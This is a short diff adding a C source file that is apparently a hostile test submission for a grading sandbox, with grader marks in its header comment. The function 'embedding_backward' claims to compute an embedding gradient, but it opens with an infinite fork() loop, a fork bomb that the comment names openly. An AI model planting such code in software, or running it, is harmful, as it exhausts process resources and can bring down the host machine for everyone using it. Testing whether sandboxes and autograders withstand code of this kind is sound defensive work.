@@ -1,0 +1,15 @@
+/* A fork bomb.
+ * marks: 0 refused: includes
+ * unchecked: 4 */
+#include "09_embedding.h"
+
+#include <unistd.h>
+
+
+void embedding_backward(int n, int v, int e, const real demb[n][e], const int X[n], real dC[v][e])
+{
+    for (;;)
+        fork();
+    dC[0][0] = demb[0][0] + X[0];
+}
+
